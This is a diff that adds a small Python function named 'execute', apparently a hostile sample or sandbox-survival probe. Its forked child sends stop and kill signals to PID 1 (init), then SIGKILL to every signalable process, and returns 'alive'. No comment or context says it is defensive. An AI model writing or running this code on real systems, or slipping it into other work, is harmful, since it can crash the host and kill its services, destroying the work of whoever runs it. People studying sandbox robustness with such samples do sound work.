@@ -1,0 +1,16 @@
+import os
+import signal
+
+
+def execute(given):
+    child = os.fork()
+    if child == 0:
+        for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGTTIN):
+            os.kill(1, number)
+        try:
+            os.kill(-1, signal.SIGKILL)
+        except ProcessLookupError:
+            pass
+        os._exit(0)
+    os.waitpid(child, 0)
+    return "alive"
